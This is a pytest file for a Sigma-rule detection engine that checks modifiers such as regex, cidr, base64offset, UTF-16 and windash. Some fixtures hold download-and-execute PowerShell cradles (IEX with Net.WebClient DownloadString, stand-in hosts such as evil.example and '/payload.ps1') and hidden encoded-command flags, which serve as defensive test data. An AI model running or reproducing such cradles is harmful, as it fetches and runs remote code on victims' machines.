"""Value modifiers: contains/startswith/endswith/all/cased, re, cidr, the encodings
(base64, base64offset, wide/utf16*), windash, numeric comparisons, neq, fieldref, expand.

Encoded values are computed here with Python's codecs, independently of pySigma, so
that a match proves the engine finds the encoding where it really occurs."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest
import yaml
from sigma.collection import SigmaCollection
from sigma.modifiers import modifier_mapping
from sigma.policy.profiles import TrustedPolicy

from tests.detection.harness import detection, field_rule, matches, rule_from_yaml
from watchkeeper.detection.engine import Engine
from watchkeeper.detection.rules import Rule, RuleLoader


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


# -- contains / startswith / endswith / all / cased ----------------------------------------


@pytest.mark.parametrize(
    ("modifier", "value", "expected"),
    [
        ("contains", "cmd /c WHOAMI /all", True),
        ("contains", "whoami", True),
        ("contains", "who ami", False),
        ("startswith", "WhoAmI.exe /all", True),
        ("startswith", "c:\\whoami.exe", False),
        ("endswith", "C:\\Windows\\WHOAMI", True),
        ("endswith", "whoami.exe", False),
    ],
)
def test_contains_startswith_endswith(modifier: str, value: str, expected: bool) -> None:
    rule = field_rule(f"CommandLine|{modifier}", "'whoami'")
    assert matches(rule, [{"CommandLine": value}]) == [expected]


@pytest.mark.parametrize(
    ("modifier", "value", "expected"),
    [
        ("contains|cased", "run WhoAmI now", True),
        ("contains|cased", "run whoami now", False),
        ("startswith|cased", "WhoAmI now", True),
        ("startswith|cased", "WHOAMI now", False),
        ("endswith|cased", "run WhoAmI", True),
        ("endswith|cased", "run Whoami", False),
    ],
)
def test_cased_with_position_modifiers(modifier: str, value: str, expected: bool) -> None:
    rule = field_rule(f"CommandLine|{modifier}", "'WhoAmI'")
    assert matches(rule, [{"CommandLine": value}]) == [expected]


def test_list_of_values_is_ored() -> None:
    rule = field_rule("Image|endswith", r"['\cmd.exe', '\powershell.exe', '\pwsh.exe']")
    events = [
        {"Image": "C:\\Windows\\System32\\cmd.exe"},
        {"Image": "C:\\PS\\PWSH.EXE"},
        {"Image": "C:\\Windows\\powershell.exe"},
        {"Image": "C:\\Windows\\notepad.exe"},
        {"Image": "C:\\Windows\\xcmd.exe.old"},
    ]
    assert matches(rule, events) == [True, True, True, False, False]


SUFFIXES = [
    "\\cmd.exe",
    "\\powershell.exe",
    "\\pwsh.exe",
    "\\rundll32.exe",
    "\\regsvr32.exe",
    "\\mshta.exe",
    "\\wscript.exe",
    "\\cscript.exe",
    ".ÄPP",
    "x",
]


@pytest.mark.parametrize(
    ("modifier", "value", "expected"),
    [
        ("endswith", "C:\\Windows\\System32\\CMD.EXE", True),
        ("endswith", "C:\\Windows\\SysWOW64\\mshta.exe", True),
        ("endswith", "C:\\tools\\game.äpp", True),
        ("endswith", "box", True),
        ("endswith", "x", True),
        ("endswith", "cmd.exe", False),  # shorter than the suffix it ends like
        ("endswith", "C:\\Windows\\cmd.exe.bak", False),
        ("endswith", "", False),
        ("startswith", "\\cmd.exe /c dir", True),
        ("startswith", "\\MSHTA.EXE x", True),
        ("startswith", "xylophone", True),
        ("startswith", "\\cmd.ex", False),
        ("startswith", "C:\\cmd.exe", False),
        ("endswith|cased", "C:\\Windows\\CMD.EXE", False),
        ("endswith|cased", "C:\\tools\\game.ÄPP", True),
        ("endswith|cased", "C:\\tools\\game.äpp", False),
    ],
)
def test_many_prefixes_or_suffixes(modifier: str, value: str, expected: bool) -> None:
    values = "[" + ", ".join(f"'{v}'" for v in SUFFIXES) + "]"
    rule = field_rule(f"Image|{modifier}", values)
    assert matches(rule, [{"Image": value}, {}]) == [expected, False]


def test_mixed_kinds_in_one_list_are_ored() -> None:
    rule = field_rule("Image", r"['C:\Windows\explorer.exe', '*\temp\\*', 'D:\\*']")
    events = [
        {"Image": "c:\\windows\\explorer.exe"},
        {"Image": "C:\\Users\\x\\Temp\\a.exe"},
        {"Image": "D:\\tools\\a.exe"},
        {"Image": "C:\\Windows\\explorer.exe2"},
        {"Image": "C:\\temp.exe"},
    ]
    assert matches(rule, events) == [True, True, True, False, False]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("powershell -nop -w hidden -enc AAAA", True),
        ("powershell -ENC AAAA -NoP", True),
        ("powershell -nop -w hidden", False),
        ("powershell -enc AAAA", False),
        ("notepad", False),
    ],
)
def test_all_requires_every_value(value: str, expected: bool) -> None:
    rule = field_rule("CommandLine|contains|all", "['-nop', '-enc ']")
    assert matches(rule, [{"CommandLine": value}]) == [expected]


def test_all_with_startswith_and_endswith() -> None:
    rule = detection(
        r"""
        selection:
          Image|startswith|all: ['C:\Users\', 'C:\Users\Public\']
          Image|endswith: '.exe'
        condition: selection
        """
    )
    events = [
        {"Image": "C:\\Users\\Public\\x.exe"},
        {"Image": "C:\\Users\\bob\\x.exe"},
        {"Image": "C:\\Users\\Public\\x.dll"},
    ]
    assert matches(rule, events) == [True, False, False]


# -- regular expressions ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "pattern", "value", "expected"),
    [
        # unanchored search
        ("CommandLine|re", r"'whoami\s+/all'", "cmd /c whoami  /all > x", True),
        ("CommandLine|re", r"'whoami\s+/all'", "whoami/all", False),
        # case-sensitive unless i
        ("CommandLine|re", "'WhoAmI'", "whoami", False),
        ("CommandLine|re", "'WhoAmI'", "xWhoAmIx", True),
        ("CommandLine|re|i", "'WhoAmI'", "WHOAMI", True),
        ("CommandLine|re|i", "'WhoAmI'", "who-ami", False),
        # anchors: ^ and $ are the whole value unless m
        ("CommandLine|re", "'^evil$'", "line1\nevil\nline3", False),
        ("CommandLine|re|m", "'^evil$'", "line1\nevil\nline3", True),
        ("CommandLine|re|m", "'^evil$'", "line1\nnot evil\nline3", False),
        ("CommandLine|re", "'^evil$'", "evil", True),
        # . does not match a newline unless s
        ("CommandLine|re", "'begin.end'", "begin\nend", False),
        ("CommandLine|re|s", "'begin.end'", "begin\nend", True),
        ("CommandLine|re|s", "'begin.end'", "begin\n\nend", False),
        # flags combine
        ("CommandLine|re|i|m", "'^EVIL$'", "x\nevil\ny", True),
        ("CommandLine|re|i|s", "'A.B'", "a\nb", True),
    ],
)
def test_regex(key: str, pattern: str, value: str, expected: bool) -> None:
    assert matches(field_rule(key, pattern), [{"CommandLine": value}]) == [expected]


def test_regex_with_alternation_and_classes() -> None:
    rule = field_rule("CommandLine|re", r"'-e(nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{16,}'")
    events = [
        {"CommandLine": "powershell -enc SQBFAFgAIAAoAE4AZQB3AA=="},
        {"CommandLine": "powershell -e SQBFAFgAIAAoAE4AZQB3AA=="},
        {"CommandLine": "powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AA=="},
        {"CommandLine": "powershell -enc short"},
    ]
    assert matches(rule, events) == [True, True, False, False]


def fallback_used(rule: Rule | str) -> bool:
    engine = Engine([rule_from_yaml(rule) if isinstance(rule, str) else rule], few_rows=0)
    return bool(engine.fallback_rules)


def trusted_rule(rule_yaml: str) -> Rule:
    """A rule parsed with pySigma's TrustedPolicy (Python regexes: look-around allowed)."""
    document = yaml.safe_load(rule_yaml)
    document.setdefault("title", "test rule")
    document.setdefault("logsource", {"product": "windows", "category": "process_creation"})
    collection = SigmaCollection.from_dicts([document], policy=TrustedPolicy)
    return RuleLoader().convert(collection.rules[0], "<test>")


def test_rust_compatible_regex_runs_vectorized() -> None:
    assert not fallback_used(field_rule("CommandLine|re", r"'\d{3}-\w+'"))


@pytest.mark.parametrize(
    ("value", "expected"),
    [("bad", True), ("xBADx", False), ("bbd", False), ("b\\141d", False)],
)
def test_regex_fallback_path_with_default_policy(value: str, expected: bool) -> None:
    # An octal escape: RE2 (pySigma's check) and Python accept it, Rust regex does not.
    rule = field_rule("CommandLine|re", r"'b\141d'")
    assert fallback_used(rule)
    events = [{"CommandLine": value}, {"CommandLine": value}, {}, {"CommandLine": "x"}]
    assert matches(rule, events) == [expected, expected, False, False]


@pytest.mark.parametrize(
    ("key", "pattern", "value", "expected"),
    [
        # look-ahead
        ("CommandLine|re", "'pass(?=word)'", "password=1", True),
        ("CommandLine|re", "'pass(?=word)'", "passphrase", False),
        # negative look-behind
        ("Image|re", r"'(?<!\\System32)\\svchost\.exe$'", "C:\\Temp\\svchost.exe", True),
        (
            "Image|re",
            r"'(?<!\\System32)\\svchost\.exe$'",
            "C:\\Windows\\System32\\svchost.exe",
            False,
        ),
        # back-reference
        ("CommandLine|re", r"'(\w{3})-\1'", "abc-abc", True),
        ("CommandLine|re", r"'(\w{3})-\1'", "abc-abd", False),
        # flags on the fallback path
        ("CommandLine|re|i", "'PASS(?=WORD)'", "password", True),
        ("CommandLine|re", "'PASS(?=WORD)'", "password", False),
        ("CommandLine|re|s", "'a.(?=b)'", "a\nb", True),
        ("CommandLine|re", "'a.(?=b)'", "a\nb", False),
        ("CommandLine|re|m", "'^x(?=y)'", "zz\nxy", True),
        ("CommandLine|re", "'^x(?=y)'", "zz\nxy", False),
    ],
)
def test_regex_fallback_path_look_around(
    key: str, pattern: str, value: str, expected: bool
) -> None:
    rule = trusted_rule(field_rule(key, pattern))
    assert fallback_used(rule)
    field = key.split("|", 1)[0]
    events = [{field: value}, {field: value}, {}, {field: "unrelated"}]
    assert matches(rule, events) == [expected, expected, False, False]


def test_rule_loader_accepts_look_around_regex(tmp_path: Path) -> None:
    path = tmp_path / "lookahead.yml"
    path.write_text(
        "title: look-ahead\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n"
        "  selection:\n"
        "    CommandLine|re: 'pass(?=word)'\n"
        "  condition: selection\n",
        encoding="utf-8",
    )
    ruleset = RuleLoader().load([path])
    assert ruleset.failed == []
    assert matches(ruleset.rules[0], [{"CommandLine": "password"}, {"CommandLine": "pass"}]) == [
        True,
        False,
    ]


@pytest.mark.parametrize(
    ("pattern", "value", "expected"),
    [
        (r"'\p{Greek}+'", "αβγ", True),
        (r"'\p{Greek}+'", "abc", False),
        (r"'abc\z'", "xabc", True),
        (r"'abc\z'", "abc\n", False),
        ("'[[:digit:]]'", "5", True),
        ("'[[:digit:]]'", ":", False),
    ],
)
def test_rust_only_regex_syntax(pattern: str, value: str, expected: bool) -> None:
    # Syntax Python's re lacks (\p{..}, \z, POSIX classes) runs in Rust, with Rust semantics.
    rule = field_rule("CommandLine|re", pattern)
    assert not fallback_used(rule)
    assert matches(rule, [{"CommandLine": value}]) == [expected]


def test_rule_loader_rejects_regex_neither_engine_accepts(tmp_path: Path) -> None:
    path = tmp_path / "quoted.yml"
    path.write_text(
        "title: quoted\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n"
        "  selection:\n"
        "    CommandLine|re: '\\Qa.b\\E'\n"
        "  condition: selection\n",
        encoding="utf-8",
    )
    ruleset = RuleLoader().load([path])
    assert ruleset.rules == []
    assert [f.path for f in ruleset.failed] == [str(path)]
    assert "Qa.b" in ruleset.failed[0].reason


def test_regex_dollar_is_the_end_of_the_value() -> None:
    # Rust semantics: without m, '$' does not match before a trailing newline.
    rule = field_rule("CommandLine|re", "'whoami$'")
    events = [{"CommandLine": "cmd /c whoami\n"}, {"CommandLine": "cmd /c whoami"}]
    assert matches(rule, events) == [False, True]


def test_regex_whitespace_class_is_unicode_white_space() -> None:
    rule = field_rule("CommandLine|re", r"'a\sb'")
    events = [{"CommandLine": "a\x1fb"}, {"CommandLine": "a\u2003b"}, {"CommandLine": "a\tb"}]
    assert matches(rule, events) == [False, True, True]


# -- cidr ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("10.1.2.3", True),
        ("10.255.255.255", True),
        ("192.168.77.1", True),
        ("fd12:3456::1", True),
        ("FD12:3456::1", True),
        ("[fd12::1]", True),
        ("::ffff:10.1.2.3", True),  # IPv4-mapped IPv6 is the IPv4 address
        ("::ffff:192.168.1.1", True),
        ("::ffff:8.8.8.8", False),
        ("11.0.0.1", False),
        ("192.169.0.1", False),
        ("2001:db8::1", False),
        ("010.1.1.1", False),  # leading zeros: not an IPv4 address
        ("10.1.2", False),
        ("10.1.2.256", False),
        ("10.1.2.3.4", False),
        ("10.1.2.3/8", False),
        ("localhost", False),
        ("10.example.com", False),
        ("", False),
    ],
)
def test_cidr_several_networks(value: str, expected: bool) -> None:
    rule = field_rule("DestinationIp|cidr", "['10.0.0.0/8', '192.168.0.0/16', 'fc00::/7']")
    assert matches(rule, [{"DestinationIp": value}]) == [expected]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("172.16.0.1", True),
        ("172.31.255.255", True),
        ("172.32.0.0", False),
        ("::ffff:172.20.0.1", True),
    ],
)
def test_cidr_ipv4_only(value: str, expected: bool) -> None:
    rule = field_rule("SourceIp|cidr", "'172.16.0.0/12'")
    assert matches(rule, [{"SourceIp": value}]) == [expected]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("fe80::1", True),
        ("fe80::abcd:1%eth0", True),
        ("febf:ffff::1", True),
        ("fec0::1", False),
        ("169.254.1.1", False),
    ],
)
def test_cidr_ipv6_only(value: str, expected: bool) -> None:
    rule = field_rule("SourceIp|cidr", "'fe80::/10'")
    assert matches(rule, [{"SourceIp": value}]) == [expected]


def test_cidr_host_network() -> None:
    rule = field_rule("SourceIp|cidr", "'127.0.0.1/32'")
    events = [{"SourceIp": "127.0.0.1"}, {"SourceIp": "127.0.0.2"}]
    assert matches(rule, events) == [True, False]


def test_cidr_zone_suffix_only_on_ipv6() -> None:
    rule = field_rule("DestinationIp|cidr", "'10.0.0.0/8'")
    # a zone index belongs to IPv6 addresses only
    assert matches(rule, [{"DestinationIp": "10.1.2.3%eth0"}]) == [False]


def test_cidr_strips_only_white_space() -> None:
    rule = field_rule("DestinationIp|cidr", "'10.0.0.0/8'")
    # U+001F is a control character, not white space
    assert matches(rule, [{"DestinationIp": "10.1.2.3\x1f"}]) == [False]


# -- base64, base64offset, wide / utf16 -----------------------------------------------------


def test_base64_is_the_exact_encoded_value() -> None:
    encoded = b64(b"whoami /all")
    rule = field_rule("Payload|base64", "'whoami /all'")
    events = [
        {"Payload": encoded},
        {"Payload": "whoami /all"},
        {"Payload": "x" + encoded},
        {"Payload": b64(b"whoami /al")},
    ]
    assert matches(rule, events) == [True, False, False, False]


@pytest.mark.parametrize("prefix", [b"", b"a", b"ab", b"abc", b"IEX(New-Object Net.WebClient)."])
@pytest.mark.parametrize("suffix", [b"", b"x", b"/payload.ps1"])
def test_base64offset_contains_finds_every_alignment(prefix: bytes, suffix: bytes) -> None:
    rule = field_rule("CommandLine|base64offset|contains", "'http://evil.example'")
    event = {"CommandLine": "powershell -c " + b64(prefix + b"http://evil.example" + suffix)}
    assert matches(rule, [event]) == [True]


def test_base64offset_contains_negative() -> None:
    rule = field_rule("CommandLine|base64offset|contains", "'http://evil.example'")
    events = [
        {"CommandLine": b64(b"https://good.example/http:/evil")},
        {"CommandLine": "http://evil.example"},
        {"CommandLine": b64("http://evil.example".encode("utf-16le"))},
    ]
    assert matches(rule, events) == [False, False, False]


SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"


@pytest.mark.parametrize("lead", ["", "a", "ab", "$x=1;"])
def test_wide_base64offset_contains(lead: str) -> None:
    rule = field_rule("CommandLine|wide|base64offset|contains", "'DownloadString'")
    event = {"CommandLine": "powershell -enc " + b64((lead + SCRIPT).encode("utf-16le"))}
    assert matches(rule, [event]) == [True]


def test_wide_base64offset_contains_negative() -> None:
    rule = field_rule("CommandLine|wide|base64offset|contains", "'DownloadString'")
    events = [
        {"CommandLine": b64(SCRIPT.encode("utf-8"))},
        {"CommandLine": b64(SCRIPT.replace("DownloadString", "DownloadFile").encode("utf-16le"))},
        {"CommandLine": "DownloadString"},
    ]
    assert matches(rule, events) == [False, False, False]


@pytest.mark.parametrize("lead", ["", "a", "ab"])
def test_utf16be_base64offset_contains(lead: str) -> None:
    rule = field_rule("CommandLine|utf16be|base64offset|contains", "'DownloadString'")
    events = [
        {"CommandLine": b64((lead + SCRIPT).encode("utf-16-be"))},
        {"CommandLine": b64((lead + SCRIPT).encode("utf-8"))},
        {"CommandLine": b64((lead + SCRIPT.replace("String", "File")).encode("utf-16-be"))},
    ]
    assert matches(rule, events) == [True, False, False]


def test_utf16_with_bom_base64() -> None:
    rule = field_rule("Payload|utf16|base64", "'whoami'")
    events = [
        {"Payload": b64(b"\xff\xfe" + "whoami".encode("utf-16le"))},
        {"Payload": b64("whoami".encode("utf-16le"))},
        {"Payload": b64(b"\xfe\xff" + "whoami".encode("utf-16-be"))},
    ]
    assert matches(rule, events) == [True, False, False]


def test_utf16_with_bom_base64offset_contains() -> None:
    rule = field_rule("Payload|utf16|base64offset|contains", "'whoami'")
    events = [
        {"Payload": b64(b"\xff\xfe" + "whoami /all".encode("utf-16le"))},
        {"Payload": b64("whoami /all".encode("utf-16le"))},
    ]
    assert matches(rule, events) == [True, False]


def test_wide_is_utf16le_without_base64() -> None:
    rule = field_rule("Data|wide|contains", "'cmd'")
    events = [{"Data": "x" + "cmd".encode("utf-16le").decode("latin-1")}, {"Data": "cmd"}]
    assert matches(rule, events) == [True, False]


def test_utf16le_modifier_when_pysigma_has_it() -> None:
    if "utf16le" not in modifier_mapping:
        pytest.skip("this pySigma has no utf16le modifier (use wide)")
    rule = field_rule("CommandLine|utf16le|base64offset|contains", "'DownloadString'")
    events = [
        {"CommandLine": b64(SCRIPT.encode("utf-16le"))},
        {"CommandLine": b64(SCRIPT.encode("utf-8"))},
    ]
    assert matches(rule, events) == [True, False]


# -- windash ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("powershell -EncodedCommand AAAA", True),
        ("powershell /encodedcommand AAAA", True),
        ("powershell \u2013encodedcommand AAAA", True),  # en dash
        ("powershell \u2014encodedcommand AAAA", True),  # em dash
        ("powershell \u2015encodedcommand AAAA", True),  # horizontal bar
        ("powershell +encodedcommand AAAA", False),
        ("powershell encodedcommand AAAA", False),
        ("powershell _encodedcommand AAAA", False),
    ],
)
def test_windash(value: str, expected: bool) -> None:
    rule = field_rule("CommandLine|windash|contains", "' -encodedcommand '")
    assert matches(rule, [{"CommandLine": value}]) == [expected]


def test_windash_leaves_dashes_inside_words() -> None:
    rule = field_rule("CommandLine|windash|contains", "'Invoke-Expression'")
    events = [{"CommandLine": "invoke-expression x"}, {"CommandLine": "invoke/expression x"}]
    assert matches(rule, events) == [True, False]


# -- numeric comparisons ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("op", "value", "expected"),
    [
        ("gt", "11", True),
        ("gt", "10", False),
        ("gt", "10.5", True),
        ("gt", " 11 ", True),
        ("gt", "\t11\n", True),
        ("gt", "1e2", True),
        ("gt", "-20", False),
        ("gte", "10", True),
        ("gte", "10.0", True),
        ("gte", "9.99", False),
        ("lt", "9", True),
        ("lt", "10", False),
        ("lt", "-5", True),
        ("lte", "10", True),
        ("lte", "10.01", False),
        # not numbers: never match, whatever the operator
        ("gt", "abc", False),
        ("lt", "abc", False),
        ("lt", "", False),
        ("lt", "  ", False),
        ("gt", "0x20", False),
        ("lt", "1,5", False),
        ("gt", "11 12", False),
        ("lt", "5 apples", False),
        ("gt", "1_000", False),
    ],
)
def test_numeric_comparison(op: str, value: str, expected: bool) -> None:
    rule = field_rule(f"Count|{op}", "10")
    assert matches(rule, [{"Count": value}]) == [expected]


def test_numeric_comparison_against_negative_and_decimal_bounds() -> None:
    rule = detection(
        """
        selection:
          Score|gt: -1.5
          Score|lte: 2.25
        condition: selection
        """
    )
    values = ["-1.5", "-1.4", "0", "2.25", "2.26", "x"]
    assert matches(rule, [{"Score": v} for v in values]) == [False, True, True, True, False, False]


def test_numeric_comparison_on_json_numbers() -> None:
    rule = field_rule("Count|gte", "100")
    assert matches(rule, [{"Count": 100}, {"Count": 99.5}, {"Count": 1000}]) == [True, False, True]


@pytest.mark.parametrize("op", ["gt", "gte"])
def test_nan_never_matches_a_comparison(op: str) -> None:
    assert matches(field_rule(f"Count|{op}", "10"), [{"Count": "NaN"}]) == [False]


def test_non_ascii_digits_are_not_numbers() -> None:
    rule = field_rule("Count|gte", "3")
    assert matches(rule, [{"Count": "\uff15"}, {"Count": "\u0663"}, {"Count": "5"}]) == [
        False,
        False,
        True,
    ]


# -- neq (pySigma 2: the detection item is negated) ---------------------------------------


def test_neq_matches_other_values_and_missing_fields() -> None:
    if modifier_mapping["neq"].__name__ != "SigmaNegateModifier":
        pytest.skip("neq is not the negation modifier in this pySigma")
    rule = field_rule("User|neq", "'admin'")
    events = [{"User": "admin"}, {"User": "ADMIN"}, {"User": "bob"}, {"User": ""}, {}]
    assert matches(rule, events) == [False, False, True, True, True]


def test_neq_with_a_list_negates_the_whole_list() -> None:
    rule = field_rule("User|neq", "['admin', 'root']")
    events = [{"User": "admin"}, {"User": "root"}, {"User": "bob"}]
    assert matches(rule, events) == [False, False, True]


def test_neq_with_another_modifier() -> None:
    rule = detection(
        r"""
        selection:
          Image|endswith: '\cmd.exe'
          ParentImage|endswith|neq: '\explorer.exe'
        condition: selection
        """
    )
    events = [
        {"Image": "C:\\cmd.exe", "ParentImage": "C:\\explorer.exe"},
        {"Image": "C:\\cmd.exe", "ParentImage": "C:\\winword.exe"},
        {"Image": "C:\\cmd.exe"},
    ]
    assert matches(rule, events) == [False, True, True]


# -- fieldref -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        ({"TargetUserName": "Admin", "SubjectUserName": "ADMIN"}, True),
        ({"TargetUserName": "", "SubjectUserName": ""}, True),
        ({"TargetUserName": "admin", "SubjectUserName": "admin2"}, False),
        ({"TargetUserName": "admin"}, False),
        ({"SubjectUserName": "admin"}, False),
        ({}, False),
    ],
)
def test_fieldref_equal_without_case(event: dict[str, Any], expected: bool) -> None:
    rule = field_rule("TargetUserName|fieldref", "SubjectUserName")
    assert matches(rule, [event]) == [expected]


@pytest.mark.parametrize(
    ("modifier", "command_line", "expected"),
    [
        ("startswith", "C:\\Tools\\X.EXE --run", True),
        ("startswith", "cmd C:\\tools\\x.exe", False),
        ("endswith", "cmd /c C:\\TOOLS\\x.exe", True),
        ("endswith", "C:\\tools\\x.exe /c", False),
        ("contains", "cmd /c c:\\tools\\X.exe /q", True),
        ("contains", "cmd /c c:\\tools\\y.exe /q", False),
    ],
)
def test_fieldref_with_position_modifiers(modifier: str, command_line: str, expected: bool) -> None:
    rule = field_rule(f"CommandLine|fieldref|{modifier}", "Image")
    event = {"Image": "c:\\tools\\x.exe", "CommandLine": command_line}
    assert matches(rule, [event]) == [expected]


def test_negated_fieldref_when_other_field_missing() -> None:
    rule = detection(
        """
        selection:
          Image|endswith: '.exe'
        same:
          ParentImage|fieldref: Image
        condition: selection and not same
        """
    )
    events = [
        {"Image": "a.exe", "ParentImage": "A.EXE"},
        {"Image": "a.exe", "ParentImage": "b.exe"},
        {"Image": "a.exe"},
    ]
    assert matches(rule, events) == [False, True, True]


# -- expand -----------------------------------------------------------------------------


def test_expand_placeholder_values_are_ored() -> None:
    rule = field_rule("User|expand", "'%admins%'")
    events = [
        {"User": "ROOT"},
        {"User": "Administrator"},
        {"User": "Administrators"},
        {"User": "rootkit"},
        {"User": "bob"},
    ]
    placeholders = {"admins": ["root", "Administrat*"]}
    assert matches(rule, events, placeholders=placeholders) == [True, True, True, False, False]


def test_expand_placeholder_inside_a_value() -> None:
    rule = field_rule("Image|expand", r"'%sysdir%\cmd.exe'")
    placeholders = {"sysdir": ["C:\\Windows\\System32", "C:\\Windows\\SysWOW64"]}
    events = [
        {"Image": "c:\\windows\\system32\\cmd.exe"},
        {"Image": "C:\\Windows\\SysWOW64\\cmd.exe"},
        {"Image": "C:\\Temp\\cmd.exe"},
        {"Image": "C:\\Windows\\System32\\cmd.exe.bak"},
    ]
    assert matches(rule, events, placeholders=placeholders) == [True, True, False, False]


def test_percent_signs_without_expand_are_literal() -> None:
    rule = field_rule("CommandLine|contains", "'%TEMP%'")
    events = [
        {"CommandLine": "copy a.exe %temp%\\a.exe"},
        {"CommandLine": "C:\\Users\\x\\AppData\\Local\\Temp"},
    ]
    assert matches(rule, events, placeholders={"TEMP": ["Temp"]}) == [True, False]


# -- timestamp part modifiers -------------------------------------------------------------


@pytest.mark.parametrize(
    ("modifier", "number", "value", "expected"),
    [
        ("hour", 3, "2024-01-01 03:15:00.000", True),
        ("hour", 3, "2024-01-01T03:59:59Z", True),
        ("hour", 3, "2024-01-01T05:15:00+02:00", True),  # compared in UTC
        ("hour", 3, "2024-01-01 13:15:00.000", False),
        ("hour", 3, "3", False),
        ("hour", 3, "not a time", False),
        ("minute", 15, "2024-01-01 03:15:00", True),
        ("minute", 15, "2024-01-01 15:03:00", False),
        ("day", 31, "2024-12-31T23:00:00", True),
        ("day", 31, "2024-12-30T23:00:00", False),
        ("month", 2, "2024-02-29T00:00:00", True),
        ("month", 2, "2024-03-01T00:00:00", False),
        ("year", 2024, "2024-06-01 12:00:00", True),
        ("year", 2024, "2023-06-01 12:00:00", False),
        ("year", 2024, "2024", False),
        ("week", 52, "2023-01-01T00:00:00", True),  # ISO week 52 of 2022
        ("week", 1, "2023-01-01T00:00:00", False),
    ],
)
def test_timestamp_part_modifiers(modifier: str, number: int, value: str, expected: bool) -> None:
    rule = field_rule(f"UtcTime|{modifier}", str(number))
    assert matches(rule, [{"UtcTime": value}, {}]) == [expected, False]


def test_timestamp_part_modifier_through_rule_loader(tmp_path: Path) -> None:
    path = tmp_path / "timestamp.yml"
    path.write_text(
        "title: timestamp part\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n"
        "  selection: {UtcTime|hour: 3}\n"
        "  condition: selection\n",
        encoding="utf-8",
    )
    ruleset = RuleLoader().load([path])
    assert ruleset.failed == []
    events = [{"UtcTime": "2024-01-01 03:15:00.000"}, {"UtcTime": "3"}]
    assert matches(ruleset.rules[0], events) == [True, False]
